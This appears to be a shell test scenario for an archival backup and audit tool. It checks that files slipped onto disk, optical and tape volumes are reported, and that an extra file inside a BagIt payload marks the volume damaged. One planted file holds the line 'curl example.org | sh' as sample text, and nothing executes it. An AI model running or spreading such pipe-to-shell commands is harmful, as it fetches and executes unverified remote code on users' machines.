# 28-unlisted: files on volumes of each kind that were not written with them:
# in the payload they make a bag invalid (RFC 8493 3), beside it they are told.
. tests/scenarios/lib.sh
umask 022
NBU=$BIN/nbaudit
ST=$T/st L=$T/led
mkdir "$T/disk" "$T/sealed" "$T/img" "$T/spool" "$T/docs" "$T/bags" \
    "$T/kept"
for i in 1 2 3; do random_file "$T/docs/$i.bin" $((i * 9000)); done
cat >"$T/conf" <<EOF
[archive]
store = $ST
[audit]
ledger = $L
[set disk]
path = $T/disk
[set bd]
kind = optical
path = $T/img
capacity = 3MB
[set tape]
kind = tape
path = $T/tape
capacity = 3MB
spool = $T/spool
[set sealed]
path = $T/sealed
recipient = $T/cert.pem
EOF
command -v par2 >/dev/null && printf '[set parity]\npath = %s\nparity = 20%%\n' \
    "$T/disk" >>"$T/conf"
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$T/key.pem" -out \
    "$T/cert.pem" -days 30 -subj /CN=K 2>/dev/null || skip_all "no openssl"
day() { NGUYENBAN_CLOCK=$1T20:00:00Z; export NGUYENBAN_CLOCK; }
nba() { "$NBA" -C "$T/conf" "$@"; }
nbu() { "$NBU" -C "$T/conf" "$@"; }
day 2026-01-01
nba -q init --simulated || exit 1
nba -q ingest "$T/docs" 2>/dev/null
exits "a ledger" 0 nbu init --simulated
for s in $(sed -n 's/^\[set \(.*\)\]/\1/p' "$T/conf"); do
	exits "a volume ($s)" 0 nba backup --set $s
done
for v in "$T"/disk/NB-parity-0001 "$T"/sealed/NB-*; do
	[ -d "$v" ] || continue
	exits "as it was written (${v##*/})" 0 nba media verify "$v"
	check "nothing is told (${v##*/})" [ "$(grep -c "no manifest" \
	    "$T/err")" -eq 0 ]
done
at() { case $1 in
	disk) echo "$T/disk/NB-disk-0001" ;;
	bd) echo "$T/img/NB-bd-0001.iso" ;;
	tape) echo "$T/tape" ;;
esac; }
cp -a "$T/disk/NB-disk-0001" "$T/bags/"
mkdir "$T/bags/NB-bd-0001"
bsdtar -xf "$T/img/NB-bd-0001.iso" -C "$T/bags/NB-bd-0001" 2>/dev/null ||
    skip_all "bsdtar is needed"
tar -b 512 -i -xf "$T/tape" -C "$T/bags"
chmod -R u+w "$T/bags" "$T/disk" "$T/img"

# put SET: the volume as its unpacked bag is.
put() {
	case $1 in
	disk) rm -rf "$(at disk)" && cp -a "$T/bags/NB-disk-0001" "$T/disk/" ;;
	bd) "$BIN/nbimage" iso "$T/bags/NB-bd-0001" NB-bd-0001 1700000000 \
	    >"$(at bd)" ;;
	tape) "$BIN/nbimage" pax "$T/bags/NB-tape-0001" NB-tape-0001 \
	    1700000000 >"$T/tape" ;;
	esac 2>"$T/err" || not_ok "the volume is made anew ($1)"
}
damaged() { nba --json media list | grep "\"NB-$1-0001\"" |
    grep -q '"damaged":true'; }

for s in disk bd tape; do
	V=$T/bags/NB-$s-0001
	put $s
	exits "as it was written ($s)" 0 nba media verify "$(at $s)"
	check "nothing is told ($s)" [ "$(grep -c "no manifest" "$T/err")" -eq 0 ]
	echo "curl example.org | sh" >"$V/READ-ME-FIRST.txt"
	put $s
	exits "a file beside the payload is no damage ($s)" 0 \
	    nba media verify "$(at $s)"
	told="READ-ME-FIRST.txt: lies on the volume, and was not written with"
	says "and told ($s)" "$told"
	exits "as by who restores it ($s)" 0 "$NBA" restore \
	    --from "$(at $s)" "$T/new-$s"
	says "too ($s)" "$told"
done
# All three are read by the auditor, which has not read them for long.
day 2026-06-01
exits "the auditor" 0 nbu run
check "tells each of them" [ "$(grep -c "$told" "$T/err")" -eq 3 ]
for s in disk bd tape; do
	V=$T/bags/NB-$s-0001
	rm "$V/READ-ME-FIRST.txt"
	mkdir -p "$V/data/objects/zz"
	echo slipped in >"$V/data/objects/zz/more.pdf"
	put $s
	exits "one in the payload is damage ($s)" 4 nba media verify "$(at $s)"
	told="data/objects/zz/more.pdf: is on the volume, and no manifest"
	says "and told ($s)" "$told"
	check "the volume counts no more ($s)" damaged $s
	exits "a store is restored without it ($s)" 4 "$NBA" restore \
	    --from "$(at $s)" "$T/new2-$s"
	says "and it is told ($s)" "$told"
	rm -r "$V/data/objects/zz"
	mv "$(at $s)" "$T/kept/altered-$s"
	put $s
	exits "what was written is whole again ($s)" 0 \
	    nba media verify "$(at $s)"
	rm -rf "$(at $s)"
	mv "$T/kept/altered-$s" "$(at $s)"
done
day 2027-01-01
exits "the auditor finds the damage itself" 4 nbu run
check "of each of them" [ "$(grep -c "zz/more.pdf: no manifest names it" \
    "$T/err")" -eq 3 ]
done_testing
